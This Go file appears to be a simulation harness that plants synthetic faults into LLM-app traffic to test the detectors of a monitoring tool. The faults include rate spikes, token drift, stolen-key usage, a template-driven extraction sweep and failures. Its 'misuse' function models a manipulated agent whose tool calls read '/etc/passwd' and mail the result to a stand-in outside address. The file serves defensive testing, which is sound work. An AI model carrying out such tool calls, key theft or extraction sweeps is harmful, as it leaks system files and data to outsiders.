package simulation

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"time"

	"github.com/guardroom/guardroom/internal/review"
)

// fault is something that goes wrong, and within what it has to be found.
type fault struct {
	name     string
	within   time.Duration // 0: what counts is requests
	requests int           // 0: what counts is time
	bar      bool          // whether a bar is set on it
	found    []string      // the detectors that count; none means any
	people   int           // of the App
	days     int           // of its history
	tools    bool          // whether it must be one whose agent calls tools
	// plant makes what comes from start on, in order of time, and may ask for a history right before.
	plant func(w *world, start time.Time) []act
}

// world is an App before the fault.
type world struct {
	random *rand.Rand
	crowd  crowd
	before []act // what came on the day of the fault
	after  []act // what would come in the hour after
}

// during takes out of what would come what comes within the fault's time, which it will change.
func (w *world) during(start time.Time, last time.Duration) []act {
	n, _ := slices.BinarySearchFunc(w.after, start.Add(last), func(a act, t time.Time) int { return a.in.OccurredAt.Compare(t) })
	taken := w.after[:n]
	w.after = w.after[n:]
	return taken
}

const (
	rateID   = "behavior.rate"
	tokensID = "behavior.tokens"
	sweepID  = "extraction.systematic"
)

var faults = []fault{
	{name: "5× rate, a program of 15 a minute", within: 30 * time.Second, bar: true, found: []string{rateID}, people: 20, days: 1, plant: programSpike},
	{name: "5× rate, a whole App", within: 30 * time.Second, bar: true, found: []string{rateID}, people: 2500, days: 2, plant: appSpike},
	{name: "3× tokens, a program of 15 a minute", within: 5 * time.Minute, bar: true, found: []string{tokensID}, people: 20, days: 1, plant: programDrift},
	{name: "3× tokens, a whole App", within: 5 * time.Minute, bar: true, found: []string{tokensID}, people: 1500, days: 2, plant: appDrift},
	{name: "stolen key, users made up", requests: 50, bar: true, people: 150, days: 6, plant: theft(func(i int, _ *world) string { return fmt.Sprintf("x-%d", i) })},
	{name: "stolen key, one new user", requests: 50, bar: true, people: 150, days: 6, plant: theft(func(int, *world) string { return "thief" })},
	{name: "stolen key, under a user’s name", requests: 50, bar: true, people: 150, days: 6, plant: theft(func(_ int, w *world) string { return w.crowd[0].id })},
	{name: "stolen key, no user named", requests: 50, bar: true, people: 150, days: 6, plant: theft(func(int, *world) string { return "" })},
	{name: "extractor, one template", requests: 200, bar: true, found: []string{sweepID}, people: 50, days: 1, plant: sweep(1)},
	{name: "extractor, eight templates", requests: 200, bar: true, found: []string{sweepID}, people: 50, days: 1, plant: sweep(len(templates))},
	{name: "tools misused", requests: 10, found: []string{"behavior.tool_sequence", "behavior.tool_arguments"}, people: 100, days: 5, tools: true, plant: misuse},
	{name: "a third of exchanges fails", within: 5 * time.Minute, found: []string{"behavior.errors"}, people: 600, days: 2, plant: failures},
}

// settled is how long a program has worked before its fault.
const settled = 2 * time.Hour

func programSpike(w *world, start time.Time) []act {
	p := newProgram("program", w.random, 4*time.Second)
	w.before = append(w.before, p.work(start.Add(-settled), start)...)
	p.every /= 5
	return planted(p.work(start, start.Add(time.Minute)))
}

func programDrift(w *world, start time.Time) []act {
	p := newProgram("program", w.random, 4*time.Second)
	w.before = append(w.before, p.work(start.Add(-settled), start)...)
	return planted(threefold(p.work(start, start.Add(10*time.Minute))))
}

// appSpike lets users come five times as often as they just did.
func appSpike(w *world, start time.Time) []act {
	since := start.Add(-10 * time.Minute)
	recent := 0
	for _, a := range w.before {
		if a.in.OccurredAt.After(since) && a.in.OccurredAt.Before(start) {
			recent++
		}
	}
	every := start.Sub(since) / time.Duration(max(1, 5*recent))
	return planted(w.anybody(start, start.Add(time.Minute), every))
}

// anybody is prompts of the crowd at random.
func (w *world) anybody(from, to time.Time, every time.Duration) (out []act) {
	for at := from; at.Before(to); at = at.Add(time.Duration(w.random.ExpFloat64() * float64(every))) {
		p := pick(w.random, w.crowd)
		out = append(out, p.act(at, 2, p.themes[0]))
	}
	return out
}

func appDrift(w *world, start time.Time) []act {
	return planted(threefold(w.during(start, 10*time.Minute)))
}

func threefold(all []act) []act {
	for i := range all {
		all[i].in.Usage.PromptTokens *= 3
		all[i].in.Usage.CompletionTokens *= 3
	}
	return all
}

func failures(w *world, start time.Time) []act {
	all := w.during(start, 10*time.Minute)
	for i := range all {
		if w.random.IntN(3) == 0 {
			all[i].in.Error = "upstream failed"
		}
	}
	return planted(all)
}

// theft is a program with a stolen key that asks about whatever its new owner sells, faster than people do.
func theft(user func(int, *world) string) func(*world, time.Time) []act {
	return func(w *world, start time.Time) (out []act) {
		thief := newPerson("thief", w.random, false)
		every := time.Duration(300+w.random.IntN(1700)) * time.Millisecond
		for i := range 60 {
			a := thief.act(start, 1, pick(w.random, themes))
			a.in.UserID = user(i, w)
			out = append(out, a)
			start = start.Add(time.Duration((0.5 + w.random.Float64()) * float64(every)))
		}
		return planted(out)
	}
}

// sweep goes through everything that it can name, at an uneven pace.
func sweep(n int) func(*world, time.Time) []act {
	return func(w *world, start time.Time) (out []act) {
		p := newPerson("extractor", w.random, false)
		every := (1 + 4*w.random.Float64()) * float64(time.Second)
		first := w.random.IntN(len(templates))
		for i := range 220 {
			a := p.act(start, 1, themes[0])
			a.in.Content.Prompt = fmt.Sprintf(templates[(first+w.random.IntN(n))%len(templates)], pick(w.random, themes[i%len(themes)]))
			out = append(out, a)
			start = start.Add(time.Duration(every * (0.6 + 0.8*w.random.Float64())))
		}
		return planted(out)
	}
}

// misuse is an agent that was talked into something: it reads what it never reads and sends it away.
func misuse(w *world, start time.Time) (out []act) {
	p := w.crowd[0]
	for i := range 12 {
		a := p.act(start.Add(time.Duration(i)*20*time.Second), i+1, p.themes[0])
		a.in.Content.ToolCalls = []review.ToolCall{
			call(w.random, "read_order", `{"id":%q,"region":"internal"}`, fmt.Sprint(i)),
			call(w.random, "read_file", `{"path":%q}`, "/etc/passwd"),
			call(w.random, "send_mail", `{"to":%q}`, "someone@elsewhere.example"),
		}
		out = append(out, a)
	}
	return planted(out)
}

func planted(all []act) []act {
	for i := range all {
		all[i].planted = true
	}
	return all
}
